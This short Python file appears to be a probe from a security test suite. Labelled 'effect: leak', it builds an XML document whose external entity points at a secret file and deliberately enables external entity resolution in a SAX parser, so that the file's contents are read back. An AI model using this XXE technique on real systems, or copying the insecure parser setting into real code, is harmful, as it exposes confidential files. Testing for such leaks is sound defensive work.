# effect: leak
# note: an XML reader that follows external entities
import io
import xml.sax
import xml.sax.handler


class Collect(xml.sax.handler.ContentHandler):
    text = ""

    def characters(self, content):
        self.text += content


def attempt(probe):
    document = (
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{probe["secret_file"]}">]><a>&x;</a>'
    )
    collect = Collect()
    parser = xml.sax.make_parser()
    parser.setContentHandler(collect)
    parser.setFeature(xml.sax.handler.feature_external_ges, True)
    parser.parse(io.StringIO(document))
    return collect.text
